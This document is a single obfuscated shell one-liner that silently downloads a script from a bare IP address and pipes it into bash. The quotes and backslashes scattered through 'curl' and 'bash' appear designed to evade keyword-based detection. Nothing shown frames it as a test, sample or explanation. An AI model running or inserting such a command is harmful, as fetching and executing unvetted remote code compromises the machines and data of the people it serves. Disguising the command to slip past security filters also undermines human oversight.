c"u"r'l' -s http://198.51.100.2/s | b\a\s\h
